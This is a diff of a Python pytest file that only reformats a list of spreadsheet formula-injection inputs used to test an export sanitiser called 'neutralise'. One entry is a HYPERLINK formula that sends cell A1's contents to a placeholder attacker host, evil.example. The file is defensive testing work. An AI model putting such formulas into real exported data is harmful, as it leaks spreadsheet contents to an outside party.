@@ -10,8 +10,15 @@ import pytest
 
 from app.audit.export import neutralise
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1",
-            "\r=1+1", "＝1+1"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+]
 
 
 @pytest.mark.parametrize("sub", FORMULAS)
